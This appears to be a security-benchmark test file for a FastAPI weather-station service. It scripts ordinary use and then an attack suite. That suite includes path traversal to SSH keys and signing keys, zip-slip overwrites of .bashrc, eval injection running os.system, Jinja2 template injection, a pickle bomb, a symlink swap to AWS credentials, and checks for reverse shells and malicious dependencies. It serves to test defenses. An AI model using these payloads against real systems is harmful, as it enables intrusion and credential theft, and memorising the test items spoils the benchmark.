# SPDX-License-Identifier: Apache-2.0
"""A service for weather stations (FastAPI, SQLAlchemy, APScheduler)."""
import base64
import io
import json
import os
import pickle
import time
import typing
import urllib.parse
import zipfile

from attackers import Bomb, in_yaml
import stage

BEAUFORT = {
    "__init__.py": "from beaufort.scale import force\n",
    "scale.py": "LIMITS = (0.3, 1.6, 3.4, 5.5, 8, 10.8, 13.9, 17.2)\n\n\n"
                "def force(speed):\n"
                "    return sum(speed >= limit for limit in LIMITS)\n",
}
# What an honest minor release may bring: a module, data, a lazy import.
BEAUFORT_NEW = {
    "__init__.py": "from beaufort.scale import force\n",
    "scale.py": "def force(speed):\n    from beaufort import _limits\n"
                "    return sum(speed >= x for x in _limits.table())\n",
    "_limits.py": "import json\nimport os\n"
                  "HERE = os.path.dirname(__file__)\n\n\ndef table():\n"
                  '    with open(os.path.join(HERE, "limits.json")) as file:\n'
                  "        return json.load(file)\n",
    "limits.json": "[0.3, 1.6, 3.4, 5.5, 8, 10.8, 13.9, 17.2, 20.8]\n",
}
CONVERSIONS = [("temperature", "C", "F"), ("temperature", "F", "K"),
               ("wind", "kn", "m/s"), ("wind", "km/h", "bft"),
               ("pressure", "hPa", "inHg"), ("rain", "mm", "in")]
PHOTO = b"\xff\xd8\xff" + b"photo" * 60


class Visit(typing.NamedTuple):
    """What one user does on one day. Files: folder, name."""
    user: str
    password: str
    slug: str
    title: str
    month: str
    table: str
    log: str
    photo: typing.Tuple[str, str]
    paper: typing.Tuple[str, str]
    film: typing.Tuple[str, str]
    moved: typing.List[str]
    sensors: typing.Tuple[str, str]
    partner: str
    hook: str
    formula: str
    trial: str


DAYS = {
    1: [Visit("marta", "rainbow7", "north-pier", "North Pier", "2024-05",
              "readings.csv", "log_03.json", ("photos", "pier.jpg"),
              ("", "site plan.pdf"), ("2024/spring", "storm.mp4"),
              ["index.txt", "2019/autumn/mast.jpg"],
              ("temperature", "wind"), "met", "in/north-pier",
              "value * 1.02", "pier-test"),
        Visit("Jon Bauer", "gale force", "Hill 7", "Hill seven", "2024-06",
              "june 1.csv", "export.v2.json", ("", "view east.png"),
              ("papers", "permit.pdf"), ("photos", "fog.mov"),
              ["notes.md", "old/2018.csv"], ("rain", "humidity"), "farm",
              "stations/7/daily", "value - 0.4", "hill.draft"),
        Visit("w.okafor", "barometer", "st.anne", "St. Anne's School",
              "2023-11", "week-45.csv", "nov.json",
              ("2023/class", "roof.jpeg"), ("", "manual.txt"),
              ("films/2023", "mast.avi"), ["a/b/c.png", "readme.txt"],
              ("pressure", "wind"), "radio", "hook?key=anne1",
              "round(value, 1)", "st.anne 2")],
    2: [Visit("ilse", "hoarfrost", "mill_race", "Mill Race", "2025-01",
              "jan.csv", "mill 01.json", ("photos", "ice.png"),
              ("docs", "lease.pdf"), ("winter", "flood.mov"),
              ["2020/ice.jpg", "list.csv"], ("wind", "snow"), "farm",
              "push/mill", "max(value, 0)", "race-b"),
        Visit("Tom van Dijk", "polder-22", "Dijk 12", "Dike, km 12",
              "2025-02", "dijk 12 feb.csv", "sensor.2.json",
              ("", "dike.jpeg"), ("", "route.txt"),
              ("2025/february", "waves.mp4"),
              ["plan.pdf", "x/y/gate.png"], ("temperature", "pressure"),
              "radio", "in/dijk?v=2", "value / 0.98", "dijk copy"),
        Visit("a-nguyen", "monsoon!", "delta-3", "Delta three", "2022-08",
              "raw_0808.csv", "d3.json", ("2022/boats", "buoy.jpg"),
              ("papers/2022", "survey.md"), ("", "river.avi"),
              ["m.txt", "maps/north.png"], ("rain", "temperature"), "met",
              "stations/delta/3", "min(value, 300)", "delta.x")],
    3: [Visit("pavel", "isobars9", "tower.9", "Tower 9", "2026-03",
              "t9.csv", "tower_mar.json", ("photos", "top.jpeg"),
              ("", "stairs.pdf"), ("2026/march", "swing.mp4"),
              ["q.csv", "2017/w/base.jpg"], ("wind", "pressure"), "radio",
              "t/9", "value + 1.5", "tower-tmp"),
        Visit("Eva Lind", "northwind", "Lake House", "House by the lake",
              "2026-04", "lake april.csv", "lake.v1.json",
              ("", "jetty.png"), ("docs", "key list.txt"),
              ("films", "heron.mov"), ["log.txt", "birds/heron.png"],
              ("humidity", "temperature"), "met", "in/lake-house",
              "value * 0.5", "lake 2"),
        Visit("o.reyes", "sirocco5", "finca_1", "Finca uno", "2021-07",
              "julio-07.csv", "f1.json", ("2021/trees", "olive.jpg"),
              ("papers", "water.md"), ("2021/dust", "calima.avi"),
              ["n.md", "old/trees/a.jpg"], ("rain", "wind"), "farm",
              "hook?key=f1", "value - 2", "finca-old")],
}
LATER = [
    Visit("Dr. Ines Roth", "k0nvektion", "Berg 3.b", "Berg drei, oben",
          "2027-12", "Dezember 24.csv", "berg.3.final.json",
          ("2027/winter/night", "moon halo.webp"), ("", "Plan B.odt"),
          ("", "avalanche.webm"), ["2016/10/03/x.tiff", "liesmich.txt"],
          ("wind", "radiation"), "met", "in/berg-3b", "value * 1.1 - 2",
          "Berg 3.test"),
    Visit("sam", "dewpoint1", "quay-44", "Quay 44", "2031-10", "q.csv",
          "2031-10-05.json", ("photos", "IMG_0042.heic"),
          ("papers/2031/autumn", "v1.2 draft.docx"),
          ("films/tide", "spring tide.mkv"), ["k.bmp"],
          ("temperature", "tide"), "farm", "stations/44/daily?lang=en",
          "round(value * 2, 2)", "quay-45"),
    Visit("li.wei-2", "typhoon_88", "Harbour_East", "Harbour, east",
          "2020-02", "feb (late).csv", "h_e.json", ("", "crane.gif"),
          ("docs", "rules.rtf"), ("2020/q1", "rain.mp4"),
          ["s p a/ce.jpg", "one/two/three/four.png"], ("rain", "pressure"),
          "radio", "h/e", "max(value, 1)", "harbour w"),
    Visit("marta", "rainbow7", "south-pier", "South Pier", "2026-09",
          "readings.csv", "log_09.json", ("photos", "pier.jpg"),
          ("", "site plan.pdf"), ("2026/summer", "storm.mp4"),
          ["index.txt"], ("temperature", "wind"), "met", "in/south-pier",
          "value * 1.03", "pier-test 2"),
]


def archive(members):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        for name, text in members.items():
            file.writestr(name, text)
    return content.getvalue()


def rows(visit, day):
    return [{"time": f"{visit.month}-{day:02}T{hour:02}:10:00",
             "sensor": sensor, "value": 3 + hour * (i + 1) / 2}
            for hour in range(0, 24, 3)
            for i, sensor in enumerate(visit.sensors)]


def table(visit, *days):
    return "time,sensor,value\n" + "".join(
        f"{r['time']},{r['sensor']},{r['value']}\n"
        for day in days for r in rows(visit, day)) + "yesterday,x,-\n"


class StationReports(stage.Service):
    """Measurements, summaries, charts, archives and partners (FastAPI)."""
    packages = ["python3-fastapi", "python3-uvicorn", "python3-multipart",
                "python3-sqlalchemy", "python3-aiosqlite", "python3-httpx",
                "python3-apscheduler", "python3-passlib", "python3-bcrypt",
                "python3-jwt", "python3-jinja2", "python3-yaml"]

    def arrange(self):
        stage.write(self.srv / "secret.key", "not-" + stage.SECRET)
        self.install("beaufort", "1.2.0", BEAUFORT)

    def arrange_benign(self):
        self.install("beaufort", "1.3.0", BEAUFORT_NEW)

    def command(self):
        return [self.python, "-m", "uvicorn", "stations.main:app",
                "--host", "127.0.0.1", "--port", self.port("web")]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name, password):
        """Returns a browser with a cookie, and the token for devices."""
        browser = self.browser()
        body = self.expect_answer(f"{name} logs in", browser.post(
            "/token", username=name, password=password), "access_token")
        return browser, json.loads(body)["access_token"] if body else ""

    def warden(self):
        return self.enter("warden", "keep-the-log")[0]

    def send(self, browser, path, content, token=None):
        headers = {"Content-Type": "application/json"}
        if token:
            headers["Authorization"] = "Bearer " + token
        return browser.fetch(urllib.parse.quote(path),
                             json.dumps(content).encode(), headers)

    def awaits(self, what, condition):
        self.expect(what, stage.wait_for(condition, 15), "never")

    def summary(self, visit, day, slug=None):
        return (self.srv / "var/reports" / (slug or visit.slug) / visit.month
                / f"{visit.month}-{day:02}.json")

    def join(self, visit):
        self.expect_answer(f"{visit.user} registers", self.send(
            self.browser(), "/register", {
                "name": visit.user, "password": visit.password}),
            visit.user, 201)
        self.expect_answer("name is taken", self.send(
            self.browser(), "/register", {
                "name": visit.user, "password": "another"}), status=409)
        self.expect_answer("wrong password", self.browser().post(
            "/token", username=visit.user, password="guess1"), status=401)
        return self.enter(visit.user, visit.password)

    def set_up(self, browser, visit, at):
        station = {"slug": visit.slug, "title": visit.title, "altitude": 12}
        self.expect_answer("no log-in", self.send(
            self.browser(), "/stations", station), status=401)
        self.expect_answer(f"station {visit.slug}", self.send(
            browser, "/stations", station), visit.slug, 201)
        self.expect_answer("station exists", self.send(
            browser, "/stations", station), status=409)
        wanted = (f"title: {visit.title}\naltitude: 31\ncalibration:\n"
                  f"  {visit.sensors[0]}: {visit.formula}\n")
        self.expect_answer("settings", browser.fetch(
            urllib.parse.quote(at + "/settings"), wanted.encode()), "31")
        self.expect_answer("settings again", browser.get(at + "/settings"),
                           visit.formula)
        self.expect_answer("bad settings", browser.fetch(
            urllib.parse.quote(at + "/settings"), b"title: ["), status=422)
        self.expect_answer("formula", browser.get(
            at + "/calibrate", formula=visit.formula, value=4), "result")
        self.expect_answer("bad formula", browser.get(
            at + "/calibrate", formula="valu +", value=4), status=422)

    def measure(self, browser, token, visit, at):
        partner = self.site(visit.partner)
        url = f"{partner.url}/{visit.hook}"
        partner.page("*", "thanks")
        self.expect_answer("hook works", self.send(
            browser, at + "/hooks/test", {"url": url}), "thanks")
        self.expect_answer("hook", self.send(
            browser, at + "/hooks", {"url": url}), status=201)
        self.expect_answer(f"upload {visit.table}", browser.upload(
            at + "/upload", visit.table, table(visit, 3, 4).encode(),
            "text/csv", month=visit.month), '"refused":1', 202)
        self.expect_answer(f"upload {visit.log}", browser.upload(
            at + "/upload", visit.log, json.dumps(
                {"readings": rows(visit, 11)}).encode(),
            "application/json", month=visit.month), '"taken":16', 202)
        self.expect_answer("no JSON", browser.upload(
            at + "/upload", "bad " + visit.log, b"{", "application/json",
            month=visit.month), status=422)
        self.expect_answer("refused upload", browser.upload(
            at + "/upload", "x.exe", b"MZ", "application/x-msdos-program",
            month=visit.month), status=415)
        self.expect_answer("no readings", self.send(
            browser, at + "/readings", [{"time": "noon"}]), status=422)
        for day in (3, 4, 11):
            self.awaits(f"summary of {day}", self.summary(visit, day).exists)
        self.awaits("partner told", lambda: partner.heard(
            f"{visit.month}-11"))
        # A partner that is down for a while.
        partner.page("*", "busy", 503)
        self.expect_answer("readings", self.send(
            self.browser(), at + "/readings", rows(visit, 21), token),
            '"taken":16', 202)
        self.awaits("partner busy", lambda: partner.heard(
            f"{visit.month}-21"))
        told = len(partner.requests)
        partner.page("*", "thanks")
        self.awaits("partner told late",
                    lambda: len(partner.requests) > told)

    def read(self, browser, visit, at):
        month, day = visit.month, f"{visit.month}-04"
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "<li>")
        self.expect_answer("style", visitor.get("/static/style.css"), "body")
        self.expect_answer("station page", visitor.get(f"/s/{visit.slug}"),
                           month)
        self.expect_answer("month page", visitor.get(
            f"/s/{visit.slug}/{month}"), day)
        self.expect_answer("no such month", visitor.get(
            f"/s/{visit.slug}/1999-01"), status=404)
        self.expect_answer("missing page", visitor.get(
            f"/s/{visit.slug}-x"), "Not here", 404)
        self.expect_answer("nothing", visitor.get(
            f"/{visit.trial}.php"), status=404)
        self.expect_answer("status", visitor.get("/status"), "runs")
        self.expect_answer("reports", visitor.get(
            at + "/reports", month=month), f"{day}.json")
        self.expect_answer("summary", visitor.get(
            f"{at}/reports/{month}/{day}.json"), "mean")
        for sensor in visit.sensors:
            self.expect_answer(f"chart of {sensor}", visitor.get(
                f"{at}/reports/{month}/{day}-{sensor}.svg"), "<svg")
        self.expect_answer("no chart", visitor.get(
            f"{at}/reports/{month}/{day}-nothing.svg"), status=404)
        self.expect_answer("bulletin", self.send(
            browser, at + "/bulletin", {
                "month": month, "template":
                visit.title + ": {% for d in days %}{{ d.day }} {% endfor %}"
            }), day)
        self.expect_answer("bad bulletin", self.send(
            browser, at + "/bulletin", {
                "month": month, "template": "{{ days"}), status=422)
        for form, text in (("csv", "time,sensor"), ("json", "[["),
                           ("csv.gz", b"\x1f\x8b")):
            self.expect_answer(f"export as {form}", visitor.get(
                at + "/export", month=month, form=form), text)
        for i, (quantity, unit, into) in enumerate(CONVERSIONS):
            self.expect_answer(f"{unit} to {into}", visitor.fetch(
                f"/convert/{quantity}?" + urllib.parse.urlencode(
                    {"value": 11 + i, "unit": unit, "to": into})), "value")
        self.expect_answer("no conversion", visitor.get(
            "/convert/" + visit.sensors[0][:3], value=1, unit="a", to="b"),
            status=404)

    def keep_files(self, browser, visit, at):
        for (folder, name), size in ((visit.photo, 1), (visit.paper, 2),
                                     (visit.film, 4200)):
            self.expect_answer(f"attach {name}", browser.upload(
                at + "/files", name, PHOTO * size, "application/octet-stream",
                folder=folder), name, 201)
            self.expect_answer(f"get {name}", browser.get(
                at + "/files", name=os.path.join(folder, name)), PHOTO)
        self.expect_answer("no such file", browser.get(
            at + "/files", name="no " + visit.photo[1]), status=404)
        self.expect_answer("restore", browser.upload(
            at + "/restore", "moved.zip", archive(
                dict.fromkeys(visit.moved, PHOTO)), "application/zip"),
            visit.moved[0])
        self.expect_answer("get restored", browser.get(
            at + "/files", name="restored/" + visit.moved[-1]), PHOTO)
        self.expect_answer("no zip", browser.upload(
            at + "/restore", "moved.zip", b"PK no"), status=422)
        self.expect_answer(f"delete {visit.paper[1]}", browser.fetch(
            urllib.parse.quote(at + "/files") + "?" + urllib.parse.urlencode(
                {"name": os.path.join(*visit.paper)}), method="DELETE"),
            "deleted")

    def look_into_archives(self, browser, visit, at):
        raw = self.srv / "var/raw" / visit.slug / visit.month
        self.awaits("raw files archived", lambda: not list(raw.iterdir()))
        body = self.expect_answer("archives", browser.get(at + "/archives"),
                                  ".zip")
        for name in json.loads(body or "[]"):
            self.expect_answer(f"archive {name}", browser.get(
                f"{at}/archives/{name}"), b"PK")
        self.expect_answer("no archive", browser.get(
            f"{at}/archives/{visit.month}/none.zip"), status=404)

    def try_and_close(self, browser, visit):
        at = f"/stations/{visit.trial}"
        self.expect_answer("trial", self.send(browser, "/stations", {
            "slug": visit.trial, "title": "Trial"}), status=201)
        self.expect_answer("trial upload", browser.upload(
            at + "/upload", "trial " + visit.table, table(visit, 9).encode(),
            "text/csv", month=visit.month), '"taken":16', 202)
        self.expect_answer("trial file", browser.upload(
            at + "/files", visit.photo[1], PHOTO, folder=visit.photo[0]),
            status=201)
        self.awaits("trial summary",
                    self.summary(visit, 9, visit.trial).exists)
        self.expect_answer("not his", self.warden().fetch(
            urllib.parse.quote(at), method="DELETE"), status=403)
        self.expect_answer("close", browser.fetch(
            urllib.parse.quote(at), method="DELETE"), "closed")

    def visit(self, visit):
        browser, token = self.join(visit)
        at = f"/stations/{visit.slug}"
        self.set_up(browser, visit, at)
        self.measure(browser, token, visit, at)
        self.keep_files(browser, visit, at)
        self.read(browser, visit, at)
        self.look_into_archives(browser, visit, at)
        self.try_and_close(browser, visit)
        state = json.loads(browser.get("/me/dashboard")[1])["state"]
        self.expect_answer("dashboard", browser.post(
            "/me/dashboard", state=state), "columns")
        self.expect_answer("password", browser.post(
            "/password", new=visit.password[::-1]), "changed")

    def train(self, day):
        for visit in DAYS[day]:
            self.visit(visit)
            self.health()

    def benign(self):
        for visit in LATER:
            self.visit(visit)
        browser, _ = self.enter("sam", LATER[1].password[::-1])
        self.expect_answer("large film", browser.upload(
            "/stations/quay-44/files", "long.mp4", PHOTO * 12000,
            "video/mp4", folder="films/tide/2031"), "long.mp4", 201)

    def health(self):
        browser = self.warden()
        self.expect_answer("observatory", self.send(
            browser, "/stations/observatory/readings", [
                {"time": "2026-03-02T12:00", "sensor": "wind", "value": 8}]),
            '"taken":1', 202)
        self.expect_answer("page", browser.get("/s/observatory"),
                           "Observatory")
        self.expect_answer("conversion", browser.get(
            "/convert/temperature", value=20, unit="C", to="F"), "68.0")
        time.sleep(0.1)

    # ----------------------------------------------------------------- attacks
    def attached(self, name):
        return self.warden().get("/stations/observatory/files", name=name)

    def evaluates(self, formula):
        return self.warden().get("/stations/observatory/calibrate",
                                 formula=formula, value=1)

    def renders(self, expression):
        return self.send(self.warden(), "/stations/observatory/bulletin", {
            "month": "2026-03", "template": "{{ cycler.__init__.__globals__"
            ".__builtins__." + expression + " }}"})

    def asks(self, url):
        return self.send(self.warden(), "/stations/observatory/hooks/test",
                         {"url": url})

    @stage.attack("traversal")
    def file_is_a_private_key(self):
        return self.is_told(self.attached("../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def file_is_the_source(self):
        return b"HOLE" in self.attached("../../../stations/auth.py")[1]

    @stage.attack("secret disclosure")
    def file_is_the_signing_key(self):
        return self.is_told(self.attached("../../../secret.key"))

    @stage.attack("write to code", fresh=True)
    def upload_is_a_plugin(self):
        self.warden().upload(
            "/stations/observatory/upload", "../../../../plugins/tide.py",
            b"import os  # planted", "text/csv", month="2026-03")
        return (self.srv / "plugins/tide.py").exists()

    @stage.attack("write to start-up file", fresh=True)
    def restoring_replaces_the_shell_profile(self):
        self.warden().upload("/stations/observatory/restore", "x.zip", archive(
            {"../../../../../home/.bashrc": "planted"}), "application/zip")
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("SSRF")
    def hook_is_an_internal_service(self):
        return self.fetches_inside(self.asks)

    @stage.attack("SSRF")
    def partner_sends_on_to_an_internal_service(self):
        return self.is_redirected_inside("met", self.asks)

    @stage.attack("eval injection")
    def formula_runs_a_command(self):
        return self.runs_line(lambda line: self.evaluates(
            f"__import__('os').system('{line}')"))

    @stage.attack("eval injection")
    def formula_reads_a_password(self):
        return self.is_told(self.evaluates(
            f"open('{self.home}/.netrc').read()"))

    @stage.attack("fork+exec")
    def formula_forks_and_execs(self):
        return self.forks(lambda code: self.evaluates(f"exec({code!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.evaluates)

    @stage.attack("unsafe pickle")
    def dashboard_runs_a_command(self):
        return self.runs_line(lambda line: self.warden().post(
            "/me/dashboard", state=base64.b64encode(
                pickle.dumps(Bomb(os.system, line))).decode()))

    @stage.attack("reverse shell")
    def settings_call_home(self):
        return self.calls_home(lambda code: self.warden().fetch(
            "/stations/observatory/settings", in_yaml(code).encode()))

    @stage.attack("template injection")
    def bulletin_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("exfiltration")
    def bulletin_sends_credentials_away(self):
        return self.template_steals(self.renders)

    @stage.attack("symlink swap", fresh=True)
    def raw_file_became_a_link(self):
        raw = self.srv / "var/raw/observatory/2026-03"
        raw.mkdir(parents=True)
        (raw / "swap.csv").symlink_to(self.home / ".aws/credentials")
        kept = self.srv / "var/archive/observatory/2026-03"
        if not self.happens(lambda: list(kept.glob("*.zip"))):
            return False
        browser = self.warden()
        for path in kept.glob("*.zip"):
            _, body = browser.get("/stations/observatory/archives/2026-03/"
                                  + path.name)
            with zipfile.ZipFile(io.BytesIO(body)) as file:
                if self.is_told(file.read("swap.csv")):
                    return True
        return False

    @stage.attack("malicious dependency", fresh=True)
    def beaufort_steals_credentials(self):
        def use():
            self.restart()
            self.browser().get("/")
        return self.dependency_steals("beaufort", "1.2.1", BEAUFORT, use,
                                      module="scale.py")

    @stage.attack("malicious plugin", fresh=True)
    def plugin_steals_a_key(self):
        plugin = self.srv / "plugins/rain.py"

        def use(code):
            plugin.write_text(code + plugin.read_text())
            self.restart()
            self.browser().get("/convert/rain", value=1, unit="in", to="mm")
        return self.steals(use, "~/.ssh/id_rsa")
